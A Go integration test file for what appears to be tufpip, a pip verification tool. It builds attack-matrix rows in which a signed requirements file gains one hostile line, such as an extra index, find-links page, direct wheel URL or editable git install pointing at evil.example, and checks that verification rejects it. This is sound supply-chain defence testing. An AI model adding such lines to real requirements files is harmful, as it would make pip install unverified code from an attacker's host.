package integration

import "testing"

// requirementsRows are the attack matrix rows for requirements files that let pip leave the verified index.
func requirementsRows() []matrixRow {
	const outside = "pip would fetch from outside the verified index"
	row := func(name, attack, line, what string) matrixRow {
		return matrixRow{
			name:   name,
			attack: attack,
			setup: func(t *testing.T, e *matrixEnv) {
				// Every pin is genuine and signed: only the extra line is
				// the attack.
				e.verifyArgs = []string{"-r", e.saveLocal(t, "requirements.txt", []byte("lib==1.1\n"+line+"\n"))}
			},
			get:      cellWant{na: "get fetches one target path and reads no requirements file"},
			download: cellWant{na: "this column downloads one requirement given as an argument; download -r refuses the same lines and writes nothing (cmd/tufpip TestRequirementsUnverifiedSources)"},
			verify: cellWant{exit: 1, text: []string{
				"ok      lib==1.1",
				"requirements.txt:2: " + line + ": " + what + ": " + outside,
				"1 verified, 1 failed",
				"hint: tufpip verified only what the repository's index serves",
			}},
			proxy: cellWant{na: "the proxy serves only verified files; the line sends pip to another source, which the proxy never sees"},
		}
	}
	return []matrixRow{
		row("requirements-extra-index-url",
			"the lock file, otherwise genuine, gains `--extra-index-url https://evil.example/simple/`, so pip may take lib from an unsigned index",
			"--extra-index-url https://evil.example/simple/", "an index other than the tufpip proxy (http://127.0.0.1:8458/simple/)"),
		row("requirements-index-url-elsewhere",
			"the lock file says `--index-url https://mirror.example/simple/`: pip installs from an index tufpip did not check",
			"--index-url https://mirror.example/simple/", "an index other than the tufpip proxy (http://127.0.0.1:8458/simple/)"),
		row("requirements-find-links",
			"the lock file gains `--find-links https://evil.example/links/`, a page of unsigned files pip would pick from",
			"--find-links https://evil.example/links/", "a find-links location"),
		row("requirements-direct-url",
			"the lock file pins another project by direct reference, `evil @ https://evil.example/evil-1.0-py3-none-any.whl`, which pip fetches as is",
			"evil @ https://evil.example/evil-1.0-py3-none-any.whl", "a URL, path or direct reference instead of NAME==VERSION"),
		row("requirements-editable",
			"the lock file gains `-e git+https://evil.example/evil.git#egg=evil`: pip builds and installs a checkout",
			"-e git+https://evil.example/evil.git#egg=evil", "an editable install"),
	}
}
